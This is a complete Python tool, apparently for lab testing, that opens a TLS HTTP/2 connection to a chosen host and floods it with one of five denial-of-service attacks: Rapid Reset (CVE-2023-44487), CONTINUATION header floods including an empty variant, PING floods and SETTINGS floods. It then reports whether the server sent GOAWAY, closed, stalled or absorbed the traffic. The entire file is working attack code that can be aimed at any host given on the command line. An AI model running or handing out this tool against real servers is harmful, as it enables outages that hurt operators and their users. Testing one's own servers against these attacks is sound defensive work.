"""python3 h2abuse.py HOST ATTACK [PORT]: floods one HTTP/2 connection; prints what came of it.

GOAWAY with its error code: the server ended the connection and said why; closed: it ended it without a word; stuck: it
has stopped reading, and goes on so; finished: it took all of it.
"""
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.errors

PATIENCE = 3
GOAWAY = 7


class Ended(Exception):
    """The server has ended it."""


class Abused:
    """One connection, with both of its directions in one hand: a word of the server is not lost when it hangs up."""

    def __init__(self, host, port):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        self._incoming, self._outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self._tls = context.wrap_bio(self._incoming, self._outgoing, server_hostname="lab.example.com")
        self._plain = socket.create_connection((host, port), timeout=20)
        self._unsent = self._unread = b""
        self._shake_hands()
        assert self._tls.selected_alpn_protocol() == "h2"
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        connection.initiate_connection()
        self._encoder = connection.encoder
        self.send(connection.data_to_send())

    def block(self, path="/"):
        """The headers of a request."""
        return self._encoder.encode(
            [(":method", "GET"), (":scheme", "https"), (":authority", "lab.example.com"), (":path", path)])

    def send(self, data, hears=True):
        """Sends all of it, and listens meanwhile if it is to."""
        self._tls.write(data)
        self._unsent += self._outgoing.read()
        while self._unsent:
            readable, writable, _ = select.select([self._plain] if hears else [], [self._plain], [], PATIENCE)
            if readable:
                self._hear()
            elif writable:
                try:
                    self._unsent = self._unsent[self._plain.send(self._unsent):]
                except ConnectionError:
                    self.hear_out(PATIENCE)
            else:
                raise Ended("stuck")

    def hear_out(self, patience):
        """Listens until the end, or so long."""
        until = time.monotonic() + patience
        while (left := until - time.monotonic()) > 0 and select.select([self._plain], [], [], left)[0]:
            self._hear()

    def _shake_hands(self):
        while True:
            try:
                self._tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._plain.sendall(self._outgoing.read())
                self._incoming.write(self._plain.recv(65536))
        self._plain.sendall(self._outgoing.read())
        self._plain.setblocking(False)

    def _hear(self):
        try:
            data = self._plain.recv(65536)
        except ConnectionError:
            data = b""
        self._incoming.write(data)
        try:
            while data:
                self._unread += self._tls.read(65536)
        except ssl.SSLWantReadError:
            pass
        except ssl.SSLError:
            data = b""
        self._read_frames()
        if not data:
            raise Ended("closed")

    def _read_frames(self):
        while len(self._unread) >= 9 and len(self._unread) >= 9 + (length := int.from_bytes(self._unread[:3], "big")):
            kind, payload = self._unread[3], self._unread[9:9 + length]
            self._unread = self._unread[9 + length:]
            if kind == GOAWAY:
                raise Ended(f"GOAWAY {h2.errors.ErrorCodes(struct.unpack('>II', payload[:8])[1]).name}")


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def rapid_reset(connection):
    """CVE-2023-44487: open a stream and reset it at once, again and again."""
    first = connection.block()
    again = connection.block()
    for number in range(1, 1_000_000, 200):
        connection.send(b"".join(
            frame(1, 0x5, stream, first if stream == 1 else again) + frame(3, 0, stream, struct.pack(">I", 8))
            for stream in range(number, number + 200, 2)))


def continuation_flood(connection):
    """CVE-2024-27983 and its like: headers that never end."""
    connection.send(frame(1, 0, 1, connection.block()))
    for number in range(100_000):
        name, value = b"x-%d" % number, b"a" * 4000
        connection.send(frame(9, 0, 1, b"\x00" + bytes([len(name)]) + name + b"\x7f" + _rest(len(value) - 127) + value))


def _rest(number):
    out = bytearray()
    while number >= 128:
        out.append(number % 128 + 128)
        number //= 128
    out.append(number)
    return bytes(out)


def empty_continuations(connection):
    """The same without a byte of headers."""
    connection.send(frame(1, 0, 1, connection.block()))
    for _ in range(1_000_000):
        connection.send(frame(9, 0, 1) * 100)


def ping_flood(connection):
    """Pings whose answers are never read."""
    for _ in range(1_000_000):
        connection.send(frame(6, 0, 0, b"12345678") * 100, hears=False)


def settings_flood(connection):
    """Settings whose acknowledgements are never read."""
    for _ in range(1_000_000):
        connection.send(frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 100, hears=False)


def attack(host, name, port):
    try:
        connection = Abused(host, port)
        globals()[name](connection)
        connection.hear_out(PATIENCE)
        return "finished"
    except Ended as end:
        return str(end)


print(attack(sys.argv[1], sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 443))
